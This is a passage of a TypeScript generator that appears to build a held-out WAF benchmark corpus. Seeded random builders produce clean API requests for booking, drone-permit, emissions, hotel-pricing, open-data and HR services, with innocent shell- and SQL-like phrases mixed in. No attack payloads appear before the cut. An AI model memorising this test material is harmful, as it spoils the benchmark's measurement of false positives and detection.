/**
 * Held-out WAF corpus 32 — realistic API traffic, written blind (without reading the WAF, its tests,
 * its docs or any other corpus file), used to measure the WAF's false-positive rate (clean traffic) and
 * detection rate (attacks).
 *
 * Domains: a drone flight-authorization service (UTM/LAANC-style), a hair-salon booking app, a
 * climate/ESG emissions-reporting platform (formulas, methodology notes), a public-library makerspace
 * equipment booking system, a hotel revenue-management pricing tool, an open-data portal for city datasets
 * (SoQL-like queries in URLs, CSV previews), a kids' coding club (Scratch/Python submissions, mentor
 * feedback) and an HR performance-review tool (free-text reviews, goals).
 *
 * Generation: a self-written mulberry32 PRNG with a fixed seed picks from hand-written pools of texts,
 * identifiers and values; every kind of clean request has its own builder, every attack family a list of
 * payloads and a list of carriers (nested JSON fields, arrays, keys, \u escapes, JSON inside a string,
 * base64 fields, GraphQL variables, query strings, headers). Output is deterministic.
 *
 * Run directly (`node bench/waf/corpus/heldout32.ts`) to write clean-heldout32.json and
 * attacks-heldout32.json next to this file.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads and JS snippets are literal text, not templates
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** Deterministic 32-bit PRNG (mulberry32). */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = mulberry32(0x32a7e5d1);
const int = (lo: number, hi: number): number => lo + Math.floor(rand() * (hi - lo + 1));
function pick<T>(xs: readonly T[]): T {
  const x = xs[Math.floor(rand() * xs.length)];
  if (x === undefined) throw new Error('empty pool');
  return x;
}
const hex = (n: number): string => Array.from({ length: n }, () => '0123456789abcdef'[int(0, 15)]).join('');
const b64url = (s: string): string => Buffer.from(s).toString('base64url');
const b64 = (s: string): string => Buffer.from(s).toString('base64');
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const pad = (n: number): string => String(n).padStart(2, '0');
const day = (): string => `2026-${pad(int(1, 12))}-${pad(int(1, 28))}`;
const stamp = (): string => `${day()}T${pad(int(6, 21))}:${pad(int(0, 59))}:${pad(int(0, 59))}Z`;
const money = (lo: number, hi: number): string => (lo + rand() * (hi - lo)).toFixed(2);

/** Query string with every value percent-encoded the way fetch/URLSearchParams-like clients do. */
function qs(params: Record<string, string | number>): string {
  return Object.entries(params)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
    .join('&');
}

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.107 Mobile Safari/537.36',
  'SkyPermit-Pilot/4.12.0 (Android 14; DJI RC Pro)',
  'ShearTime/3.8.2 (iOS 18.1; iPhone15,3) Alamofire/5.9.1',
  'CarbonLedger-Sync/2.4.0 python-requests/2.32.3',
  'okhttp/4.12.0',
  'axios/1.7.7',
  'PostmanRuntime/7.42.0',
  'RateWise-ChannelManager/1.19 (+https://ratewise.example/bot)',
  'Go-http-client/2.0',
  'curl/8.10.1',
  'node-fetch/3.3.2',
  'MakerDesk-Kiosk/1.3 (ChromeOS 129)',
];

function jwt(): string {
  const head = b64url(JSON.stringify({ alg: pick(['RS256', 'ES256', 'HS256']), typ: 'JWT', kid: hex(8) }));
  const claims = b64url(
    JSON.stringify({
      sub: uuid(),
      iss: pick([
        'https://auth.skypermit.example',
        'https://id.sheartime.example',
        'https://login.carbonledger.example',
      ]),
      aud: pick(['api', 'gateway', 'pricing']),
      iat: 1780000000 + int(0, 9000000),
      scope: pick(['read write', 'bookings:write', 'reports:read reports:write', 'openid profile']),
    }),
  );
  return `${head}.${claims}.${b64url(hex(40))}`;
}

function hdrs(
  extra: Record<string, string> = {},
  opts: { auth?: boolean; accept?: string } = {},
): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(UAS),
    accept: opts.accept ?? pick(['application/json', 'application/json, text/plain, */*', '*/*']),
  };
  if (opts.auth !== false && rand() < 0.85) h.authorization = `Bearer ${jwt()}`;
  if (rand() < 0.4)
    h['accept-language'] = pick([
      'en-US,en;q=0.9',
      'de-DE,de;q=0.8,en;q=0.5',
      'ja-JP',
      'fr-CA,fr;q=0.9',
      'es-MX,es;q=0.9',
      'pt-BR',
    ]);
  if (rand() < 0.3) h['x-request-id'] = uuid();
  return { ...h, ...extra };
}
const jsonH = (ct = 'application/json', extra: Record<string, string> = {}): Record<string, string> =>
  hdrs({ 'content-type': ct, ...extra });

// ---------------------------------------------------------------------------------------------------------
// Pools of hand-written texts
// ---------------------------------------------------------------------------------------------------------

const FIRST = [
  'Amaka',
  'Jonas',
  'Mei',
  'Priya',
  'Luis',
  'Siobhán',
  'Kwame',
  'Yuki',
  'Olga',
  'Tomás',
  'Fatima',
  'Björn',
  'Chloé',
  'Dmitri',
  'Aroha',
  'Zeynep',
  "D'Arcy",
  'Nguyễn Thị',
  'Rahul',
  'Ebony',
];
const LAST = [
  "O'Neill",
  'Okafor',
  'Müller',
  'Zhang',
  'Fernández',
  'Kowalski',
  'Tanaka',
  'Haddad',
  'van der Berg',
  'Nakamura',
  'Ivanova',
  'Mensah',
  'Lindqvist',
  'Da Silva',
  'Ng',
  'Brennan',
];
const person = (): string => `${pick(FIRST)} ${pick(LAST)}`;
const email = (): string =>
  `${pick(FIRST)
    .toLowerCase()
    .replace(/[^a-z]/g, '')}.${pick(LAST)
    .toLowerCase()
    .replace(
      /[^a-z]/g,
      '',
    )}${int(1, 99)}@${pick(['gmail.com', 'outlook.com', 'proton.me', 'example.org', 'citylib.example', 'web.de'])}`;

const DRONE_NOTES = [
  'Roof inspection of the Hartwell St warehouse, max altitude 120 ft AGL, visual observer on site.',
  'Real-estate photos; we will stay below the tree line on the north side and avoid the school during drop-off (8:00–8:45).',
  'Survey of the river bank erosion for the county. Flight path follows the levee, ~2.3 km total, 3 batteries.',
  'Night operation per Part 107.29 — anti-collision lighting visible 3 SM. Crew: PIC + VO.',
  'Wedding shoot at the vineyard, 14:00-14:40. Guests have been told; no flights over people not involved.',
  'Cell-tower inspection; the tower owner (ref TWR-88412) has approved. Will hold at 380 ft within 400 ft of the structure.',
  'Agricultural NDVI mapping, 42 ha, grid pattern, 70% overlap. Drop if wind > 25 km/h.',
  'Inspección de paneles solares en la azotea — altura máx. 30 m, duración 20 min.',
  'Training flight for new pilots in the club field; "class G" airspace but within 5 NM of the heliport, so requesting coordination.',
  'Film production, scene 14B: tracking shot along Main & 3rd. Road closure permit #SP-2026-117 attached.',
  'Search & rescue exercise with the fire dept. Thermal camera; flight may exceed 30 min with battery swaps.',
  "Bridge deck inspection — the operator's insurance cert expires 2026-12-31, updated copy uploaded.",
];
const SALON_SERVICES = [
  'Balayage + toner',
  "Men's skin fade",
  'Silk press',
  'Keratin smoothing',
  'Box braids (mid-back)',
  'Root touch-up',
  'Kids cut (under 10)',
  'Bridal updo trial',
  'Curly cut (DevaCut)',
  'Beard trim & hot towel',
  'Gloss treatment',
  'Highlights — full head',
];
const SALON_NOTES = [
  'I have a sensitive scalp, please do a patch test first. Last time the bleach burned a bit 😬',
  'Running 10 min late, sorry!! Traffic on the bridge.',
  "Bring my own Olaplex No.3 — is that OK? Also I'd like to keep the length, just the ends.",
  'Hair is about 3c/4a, shrinks a lot. Want the shape from the photo I sent on Insta.',
  'Could Marisol do it instead of Jen? No offence to Jen 🙂',
  '¿Hablan español? Mi hija tiene 7 años y es su primer corte.',
  'Allergic to PPD (hair dye ingredient) — need ammonia/PPD-free colour please.',
  'Wheelchair user — is the back sink accessible or can we do the wash at the front station?',
  'Please no "thinning" scissors this time, my hair got frizzy for weeks.',
  'Gift voucher code from my sister, not sure if it covers the toner as well.',
  '予約の時間を30分遅らせることはできますか？',
  "Cancel & rebook for next Thursday if possible; I've got COVID symptoms and don't want to risk it.",
];
const ESG_METHOD = [
  'Scope 2 market-based: residual mix factor for DE 2025 (0.579 kgCO2e/kWh) applied where no GOs were retired.',
  'Emissions = activity data × emission factor × GWP. For refrigerants we use AR6 GWP100 (R-410A = 2,256).',
  'Category 6 business travel uses distance-based method; radiative forcing uplift of 1.7 applied to air legs per DEFRA 2025.',
  'We restated 2023 because the Lyon site was divested; base-year recalculation threshold is 5% of total Scope 1+2.',
  'Spend-based Scope 3 cat. 1 using EEIO factors (USD 2022, inflation-adjusted with CPI-U). Uncertainty ±30%.',
  'District heating: supplier-specific factor 0.142 tCO2e/MWh from the Stadtwerke disclosure (PDF p.12).',
  'Fuel combustion: tCO2 = litres × 2.68 kg/L ÷ 1000 for diesel (B7 blend, biogenic share reported separately).',
  'Double materiality: impacts on water stress assessed with WRI Aqueduct 4.0, baseline water stress > 40% = "high".',
  'Les émissions du scope 3 amont ont été estimées à partir des factures fournisseurs (méthode monétaire).',
  'SBTi near-term target: −42% absolute Scope 1+2 by 2030 vs 2021; −25% Scope 3 intensity per € revenue.',
  'Data gaps for Q4 (two sites) were filled by extrapolating Q1–Q3 × 4/3; flagged as "estimated" in the audit trail.',
  'Use =SUMPRODUCT(C2:C40, D2:D40)/1000 in the template to get tCO2e; the total should match cell G42.',
];
const MAKER_EQUIP = [
  'Prusa MK4 3D printer #2',
  'Glowforge Pro laser cutter',
  'Cricut Maker 3',
  'Brother embroidery machine PE800',
  'Shapeoko 4 CNC',
  'Soldering station (Hakko FX-888D)',
  'Sewing machine — Janome HD3000',
  'Vinyl plotter',
  'Podcast booth',
  'Button maker (2.25")',
  'Oscilloscope Rigol DS1054Z',
  'VR headset (Quest 3)',
];
const MAKER_NOTES = [
  'Cutting 3 mm birch plywood for a puzzle box; file is an SVG from Inkscape.',
  "Printing PETG parts for my kid's science fair robot. ~6 h print, I'll stay the whole time.",
  'I completed the laser safety orientation on 12 March (badge #4471).',
  'Need the embroidery hoop 5x7 and navy thread if you have it.',
  'Repairing a vintage radio — will bring my own flux and solder (lead-free).',
  'Group booking for the Teen Tech Club, 6 kids + 1 librarian.',
  "Is acrylic OK to cut? Not PVC, I checked — it's cast acrylic from the hardware store.",
  'Quiero usar la cortadora láser para hacer letreros para la feria del barrio.',
  'Recording episode 12 of our local-history podcast, 2 guests, need 3 mics.',
  'The printer jammed last time (filament runout sensor?). Just letting staff know.',
];
const HOTEL_NOTES = [
  'Citywide convention (MedTech Expo) Oct 14–17, push BAR +18% and close out discounted OTA rates.',
  'Comp set dropped rates by ~9% after the marathon was moved; hold ours for now, review Thursday.',
  'Group block of 40 rooms for the Kaur–Patel wedding released; reopen inventory to the channel manager.',
  'Min LOS 2 on Fri/Sat through August. Exception: loyalty members (Gold+).',
  'Pick-up pace is 12% behind STLY for December, suggest a 72-hour flash sale on direct channel only.',
  'Renovation on floor 6 (rooms 601–624) → out of order 2026-02-01 to 2026-02-20.',
  'Tarifa corporativa para "Grupo Andino" negociada a USD 139 + impuestos, desayuno incluido.',
  'Occupancy forecast 94% on NYE; overbooking limit raised to 3% for King rooms only.',
];
const DATASETS = [
  '311-service-requests',
  'building-permits',
  'street-trees',
  'bike-counters',
  'parking-citations',
  'restaurant-inspections',
  'traffic-crashes',
  'library-checkouts',
  'air-quality-sensors',
  'council-votes',
];
const DATASET_IDS = [
  'ab3x-9kq2',
  'fp7t-2mzw',
  'tr33-s1te',
  'bk5c-u7nt',
  'pc2t-wq8e',
  'rst8-insp',
  'crsh-44ty',
  'libc-0ut5',
  'aq5e-n5r1',
  'cvot-3s26',
];
const CODE_FEEDBACK = [
  'Great job using a loop instead of copying the same block 10 times! Next step: try a variable for the speed.',
  'Your sprite keeps moving after the game ends — look at where the "stop all" block is.',
  'Nice use of f-strings 🎉. What happens if someone types a word instead of a number?',
  'Love the dragon costume! Can you make the score go up when it catches a star?',
  'The `while True:` loop never ends, so the turtle window freezes. Add a break or a condition.',
  'Super kreativ! Versuch mal, die Gravitation als Variable zu speichern.',
  'Remember: `=` assigns, `==` compares. Line 7 has a tiny mix-up.',
  'This is your best project so far. Maybe share it in the showcase on Saturday?',
];
const REVIEWS = [
  'Amaka consistently delivered ahead of schedule this half. She led the migration of the billing service without any customer-facing incidents and mentored two juniors.',
  "Jonas's technical depth is excellent but stakeholders sometimes feel out of the loop. I'd like to see more proactive updates, e.g. a short weekly note.",
  'Exceeded the sales target by 14% (€1.2M vs €1.05M). Could improve on CRM hygiene — about a third of opportunities lacked next steps.',
  'Collaboration: strong. Ownership: strong. Communication in meetings: developing — tends to drop the connection to the bigger picture.',
  'Mei took on the on-call rotation redesign and reduced pages by ~40%. She also wrote the runbook everyone now uses.',
  'Overall "meets expectations". The Q3 project slipped by 5 weeks, partly due to vendor delays outside his control.',
  'Ha sido una pieza clave en la apertura de la oficina de Bogotá; recomiendo promoción a Senior.',
  'Needs to work on delegating — took on too many tickets alone and burned out in March. We agreed on a max WIP of 3.',
  'Received 6 peer kudos, most mentioning patience when onboarding new hires. Great culture carrier.',
  "I don't think the rating scale fits her role well; most of her impact is cross-team and hard to quantify.",
  '今期は新規顧客の獲得に大きく貢献しました。来期はチームリーダーとしての役割を期待しています。',
  'Handles difficult customer escalations calmly; the Henderson account renewal (3 yr, $480k) was largely thanks to him.',
];
const GOALS = [
  'Reduce p95 latency of checkout API from 850 ms to under 400 ms by end of Q2.',
  'Complete AWS Solutions Architect Associate certification.',
  'Run at least 4 customer discovery interviews per month and share learnings in #product.',
  'Lower voluntary attrition in the support team to < 12% annualised.',
  'Document the payroll close process so someone else can run it during my leave.',
  'Ship the accessibility audit fixes (WCAG 2.2 AA) for the booking flow.',
  'Mentor one junior engineer through their first on-call shift.',
  'Improve forecast accuracy (MAPE) from 18% to 10%.',
];

// Prose, multilingual; some mention SQL / shell / script words innocently.
const PROSE = [
  "Honestly the best haircut I've had in years. Marisol listened, didn't rush, and the fade is perfect. 10/10 would book again!",
  'The makerspace is a gem. Staff helped me select the right settings, then update the file when the cut went wrong. Drop by on Tuesdays — fewer people.',
  'Our sustainability team had to union the data from three ERPs and drop duplicates before we could even start the Scope 3 inventory.',
  'Kids learned what a "for loop" is by dancing it out — step, step, turn, repeat 4 times. Then we did it in Scratch.',
  "Le personnel était adorable, mais l'attente était longue (45 min). Dommage, parce que la coupe est top.",
  'Die Datenqualität im Portal ist gut, aber die Spalte "Bezirk" ist manchmal leer. Bitte prüfen!',
  'I asked the stylist to "cut it all off and start over" — she talked me out of it, and I\'m glad she did.',
  "In the review I mentioned that he tends to delete old tickets instead of closing them; we agreed that's fine for duplicates.",
  'Our drone club will select a new chair at the meeting; anyone who wants to run should send a short note by Friday.',
  'Room rates were crazy during the Taylor Swift weekend — $649/night for a standard queen. Booked the week after instead.',
  '我们的孩子在编程俱乐部学得很开心，尤其喜欢用 Python 画画。谢谢各位导师！',
  'كانت الخدمة ممتازة والموظفون لطفاء جدًا. سأعود بالتأكيد.',
  'Сервис отличный, но запись через приложение иногда зависает на шаге оплаты.',
  'ब्यूटी सैलून का अनुभव बहुत अच्छा रहा, स्टाफ बहुत मिलनसार है।',
  "Can someone explain why the emissions figure for 2024 changed? Last week the dashboard said 12,400 tCO2e and now it's 11,950.",
  'I ran `ls -la` on the Raspberry Pi in the makerspace and the SD card was almost full; maybe wipe it between sessions?',
  'The mentor told us to "kill the process" when the game froze — my son thought that was hilarious.',
  'Tip for new pilots: always cat your flight log into the shared folder and grep for "LOW BATTERY" after each mission. Saves a lot of grief.',
  'She was the one who said "let\'s drop the table of contents and just link the sections". Small thing, big improvement.',
  'Select your preferred stylist, then choose a time. If nothing shows up, try "any stylist" — or call us at +1 (415) 555-0199.',
  'Sorry, my earlier message got cut off: the 3D print failed at layer 212 of 480; looks like under-extrusion.',
  'The council dataset "where residents want new trees" is great — used it for my class project on urban heat islands 🌳.',
  'Bu salon harika! Fiyatlar makul ve randevu sistemi çok kolay.',
  'Ótimo atendimento, mas o estacionamento é complicado. Recomendo ir de metrô.',
  'Feedback for the HR tool: please let us save a draft before submitting — I lost a 600-word review when my session expired :(',
  'Our hotel uses "rate fences" — non-refundable, 14-day advance purchase, etc. The pricing tool should respect them when it suggests a BAR.',
  'I updated the description and then selected "publish"; it still says draft. Is there a delay?',
  "Kia ora! Our coding club meets at the library every Wednesday 3.30–5pm. Bring a laptop if you've got one, we have spares if not.",
  'Emissions from the company car fleet went from 312 t to 287 t (−8%) after switching 6 vans to EVs. Nice!',
  'When I say "execute the plan" in my self-review, I mean the hiring plan we agreed on in January, not something literal 😄',
  "Price check: men's cut is $38, beard trim $15, both for $48. Tip not included.",
  'Dear team, please find attached the revised flight plan. Note: the waypoint at 51.5072° N, 0.1276° W was moved 50 m east.',
  'We want to join the open data table for bike counters with the weather table — is there a shared key like date or station_id?',
  'Mentor feedback made my daughter cry happy tears — "your code is really clean for a 9-year-old!" ❤️',
  'Performance review tip: avoid phrases like "always" and "never"; give examples with dates instead.',
  'Ich habe den Laserschneider für Samstag 10–12 Uhr gebucht, aber die Bestätigung kam nicht per E-Mail.',
  'Korean: 이 미용실 정말 추천해요! 예약도 쉽고 디자이너님이 친절해요.',
  'Hebrew: השירות היה מצוין, ממליצה בחום!',
  'Greek: Πολύ καλή εξυπηρέτηση, θα ξαναέρθω σίγουρα.',
  'Thai: ช่างตัดผมฝีมือดีมาก ราคาไม่แพง',
  'The 3D printer queue is a mess on Saturdays — could we get a 2-hour cap per person? Happy to volunteer to help run it.',
  "My manager wrote 'needs more visibility' in my review but didn't say with whom. I've asked for specifics in our 1:1.",
  'Flight ended early: geofence warning at 118 m near the hospital helipad. Landed safely, battery 41%.',
  'Is the CO₂ factor for rail travel per passenger-km or per train-km? The help page says one thing, the template another.',
  'Nuestra hija (9) hizo su primer juego en Scratch: un gato que esquiva meteoritos. ¡Está orgullosísima!',
  'Hotel guest comment: "Paid €189 on the app but the lobby sign said €149 for the same night?" — please check rate parity.',
  'Salon tip: if you have 4c hair, ask for a stretched cut; wet cuts can shrink 70%+ and surprise you.',
  'We cleaned the parking citations CSV: removed 1,204 rows where plate = "UNKNOWN" and fixed dates like 31/02/2025.',
  'Mentor note: Sam rewrote the whole game without copy-paste after last week. Proud moment!!! 🚀',
  'Peer feedback: Zeynep is the person everyone goes to when Excel breaks. She deserves the recognition.',
  'Vi bokade laserskäraren men kom 15 min sent — går det att förlänga till 11:15?',
  'Please add a "where" filter for ward on the map; right now I have to download the whole 90 MB file.',
  'Drone pilots: the stadium TFR is active 2 hours before and 1 hour after events, radius 3 NM, up to 3,000 ft AGL.',
  'Tôi rất thích tiệm tóc này, nhân viên thân thiện và giá cả hợp lý.',
  'Our Scope 1 went up 6% because the backup generator ran for 60 hours during the February storm. Not a trend, we hope.',
  'Note to self for the review: mention the on-call handbook, the hiring loop redesign, and the "drop everything" week in May.',
];

// ---------------------------------------------------------------------------------------------------------
// Clean request builders
// ---------------------------------------------------------------------------------------------------------

type Draft = Omit<CorpusRequest, 'id'>;
const clean: CorpusRequest[] = [];
const attacks: CorpusRequest[] = [];
function addClean(d: Draft): void {
  clean.push({ id: `h32c${clean.length + 1}`, ...d });
}
function addAttack(d: Draft): void {
  attacks.push({ id: `h32a${attacks.length + 1}`, ...d });
}

const restGet: Array<() => Draft> = [
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/v2/flight-authorizations?${qs({ status: pick(['pending', 'approved', 'rejected']), from: day(), to: day(), page: int(1, 9), per_page: 25 })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/v2/airspace/advisories?${qs({ lat: (37 + rand()).toFixed(5), lon: (-122 - rand()).toFixed(5), radius_nm: int(1, 5), alt_ft: pick([100, 200, 400]) })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/api/salons/${int(100, 999)}/availability?${qs({ service: pick(SALON_SERVICES), stylist: pick(['any', 'marisol', 'jen', 'ahmed']), date: day(), tz: pick(['America/Los_Angeles', 'Europe/Berlin', 'Asia/Tokyo']) })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/api/stylists/${encodeURIComponent(pick(['marisol-garcía', 'jen-o’brien', 'ahmed', 'søren', 'chloé']))}/reviews?${qs({ sort: '-created_at', limit: 20 })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/v1/orgs/${uuid()}/emissions?${qs({ scope: pick(['1', '2', '3', '1,2']), year: int(2019, 2025), granularity: pick(['month', 'quarter', 'site']), unit: 'tCO2e' })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/v1/emission-factors?${qs({ source: pick(['DEFRA 2025', 'EPA eGRID 2023', 'IEA 2024', 'ADEME Base Empreinte']), activity: pick(['diesel (100% mineral)', 'electricity – grid', 'natural gas', 'air travel > 3700 km']), region: pick(['GB', 'US-CAMX', 'FR', 'DE']) })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/makerspace/api/equipment/${int(1, 40)}/slots?${qs({ week: `2026-W${pad(int(1, 52))}`, branch: pick(['central', 'eastside', 'río-vista']) })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/pricing/v3/properties/${pick(['LAXDT', 'BERMI', 'NRTSH', 'CDGOP'])}/rates?${qs({ arrival: day(), los: int(1, 7), room_type: pick(['KING', 'QQ', 'STE-JR']), channel: pick(['direct', 'booking', 'expedia', 'gds']), currency: pick(['USD', 'EUR', 'JPY']) })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/pricing/v3/properties/BERMI/forecast?${qs({ from: day(), days: 90, include: 'otb,stly,pickup', segment: pick(['transient', 'group', 'corporate']) })}`,
    headers: hdrs(),
    body: '',
  }),
  () => {
    const i = int(0, DATASETS.length - 1);
    const id = DATASET_IDS[i] ?? 'ab3x-9kq2';
    const where = pick([
      `created_date between '2025-01-01T00:00:00' and '2025-12-31T23:59:59'`,
      `status = 'Closed' AND borough = 'BROOKLYN'`,
      `species like '%Maple%' AND dbh > 30`,
      `violation_code in ('14', '21', '38') and fine_amount >= 65`,
      `within_circle(location, 40.7128, -74.0060, 500)`,
      `score < 70 OR grade = 'C'`,
      `upper(street_name) = 'O''FARRELL ST'`,
    ]);
    return {
      kind: 'rest-get',
      method: 'GET',
      path: `/resource/${id}.json?${qs({ $select: pick(['*', 'borough, count(*) AS n', 'date_trunc_ym(created_date) AS month, count(*)', 'species, avg(dbh)']), $where: where, $order: pick(['n DESC', 'created_date DESC', ':id']), $limit: pick([50, 100, 1000]) })}`,
      headers: hdrs({}, { auth: false }),
      body: '',
    };
  },
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/api/views/${pick(DATASET_IDS)}/rows.csv?${qs({ accessType: 'DOWNLOAD', bom: 'true', format: 'true' })}`,
    headers: hdrs({}, { auth: false, accept: 'text/csv' }),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/club/api/projects?${qs({ language: pick(['scratch', 'python', 'microbit', 'html']), cohort: pick(['Wed-juniors', 'Sat-seniors', 'summer-camp-2026']), status: 'needs_feedback' })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/hr/api/v1/review-cycles/${pick(['2026-H1', '2025-H2', '2026-Q3'])}/reviews?${qs({ manager_id: uuid(), state: pick(['draft', 'submitted', 'calibrated']), include: 'goals,peer_feedback' })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/hr/api/v1/employees/${int(1000, 9999)}/goals?${qs({ period: pick(['FY26', 'FY27']), fields: 'title,progress,due_date,weight' })}`,
    headers: hdrs(),
    body: '',
  }),
];

const restWrite: Array<() => Draft> = [
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/v2/flight-authorizations',
    headers: jsonH(),
    body: JSON.stringify({
      operator: {
        id: `FA${hex(10).toUpperCase()}`,
        name: person(),
        part107Cert: String(int(4000000, 4999999)),
      },
      aircraft: {
        make: pick(['DJI', 'Skydio', 'Autel', 'Parrot']),
        model: pick(['Mavic 3 Enterprise', 'X10', 'EVO II Pro', 'Anafi USA']),
        remoteId: `1581F${hex(10).toUpperCase()}`,
      },
      operation: {
        start: stamp(),
        durationMin: int(10, 90),
        maxAltitudeFt: pick([100, 200, 250, 400]),
        area: {
          type: 'Polygon',
          coordinates: [
            [
              [-122.41, 37.77],
              [-122.4, 37.77],
              [-122.4, 37.78],
              [-122.41, 37.77],
            ],
          ],
        },
        night: rand() < 0.2,
      },
      purpose: pick(DRONE_NOTES),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/api/salons/${int(100, 999)}/bookings`,
    headers: jsonH(),
    body: JSON.stringify({
      customer: { name: person(), phone: `+1${int(2000000000, 9999999999)}`, email: email() },
      services: [pick(SALON_SERVICES), ...(rand() < 0.4 ? [pick(SALON_SERVICES)] : [])],
      stylistId: pick(['any', 'st_29', 'st_04']),
      start: stamp(),
      note: pick(SALON_NOTES),
      depositCents: pick([0, 2000, 5000]),
      marketingOptIn: rand() < 0.5,
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'PUT',
    path: `/v1/orgs/${uuid()}/activity-data/${uuid()}`,
    headers: jsonH(),
    body: JSON.stringify({
      site: pick(['Lyon plant', 'Rotterdam DC', 'São Paulo office', 'Austin HQ']),
      period: `2025-${pad(int(1, 12))}`,
      activity: pick(['electricity', 'diesel', 'natural_gas', 'r410a_leak']),
      quantity: Number(money(10, 90000)),
      unit: pick(['kWh', 'L', 'm3', 'kg']),
      evidence: [`invoices/${int(1000, 9999)}.pdf`],
      comment: pick(ESG_METHOD),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/makerspace/api/bookings',
    headers: jsonH(),
    body: JSON.stringify({
      cardNumber: `2${int(1000000000000, 9999999999999)}`,
      equipment: pick(MAKER_EQUIP),
      start: stamp(),
      minutes: pick([30, 60, 90, 120, 240]),
      material: pick(['PLA', 'PETG', '3mm birch ply', 'cast acrylic 1/8"', 'cotton twill', null]),
      notes: pick(MAKER_NOTES),
      agreedToSafetyRules: true,
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'PUT',
    path: `/pricing/v3/properties/${pick(['LAXDT', 'BERMI', 'NRTSH'])}/overrides/${day()}`,
    headers: jsonH(),
    body: JSON.stringify({
      roomTypes: {
        KING: Number(money(120, 420)),
        QQ: Number(money(110, 380)),
        'STE-JR': Number(money(260, 900)),
      },
      restrictions: { minLos: int(1, 3), closedToArrival: rand() < 0.2, stopSell: false },
      reason: pick(HOTEL_NOTES),
      author: email(),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/hr/api/v1/goals',
    headers: jsonH(),
    body: JSON.stringify({
      employeeId: int(1000, 9999),
      title: pick(GOALS),
      keyResults: [
        { metric: 'p95 latency (ms)', baseline: 850, target: 400 },
        { metric: 'incidents/quarter', baseline: int(3, 9), target: int(0, 2) },
      ],
      weight: pick([0.2, 0.25, 0.3]),
      due: day(),
      visibility: pick(['private', 'manager', 'team']),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/club/api/mentor-feedback',
    headers: jsonH(),
    body: JSON.stringify({
      projectId: uuid(),
      mentor: person(),
      stars: int(3, 5),
      comment: pick(CODE_FEEDBACK),
      badges: [pick(['loops', 'variables', 'events', 'debugging', 'creativity'])],
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/portal/api/datasets/suggestions',
    headers: jsonH(),
    body: JSON.stringify({
      title: pick([
        'Noise complaints by hour',
        'Public toilets with opening hours',
        'Snow-plough GPS traces',
        'Heat vulnerability index by tract',
      ]),
      why: pick(PROSE),
      contact: email(),
      formats: ['CSV', 'GeoJSON'],
    }),
  }),
];

const mergePatch: Array<() => Draft> = [
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/api/bookings/${uuid()}`,
    headers: jsonH('application/merge-patch+json'),
    body: JSON.stringify({ start: stamp(), note: pick(SALON_NOTES), stylistId: null }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/v2/flight-authorizations/${uuid()}`,
    headers: jsonH('application/merge-patch+json'),
    body: JSON.stringify({
      operation: {
        maxAltitudeFt: pick([150, 200, 390]),
        visualObserver: { name: person(), phone: `+44 7${int(100000000, 999999999)}` },
      },
      purpose: pick(DRONE_NOTES),
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/hr/api/v1/reviews/${uuid()}`,
    headers: jsonH('application/merge-patch+json'),
    body: JSON.stringify({
      sections: { strengths: pick(REVIEWS), growth: pick(REVIEWS) },
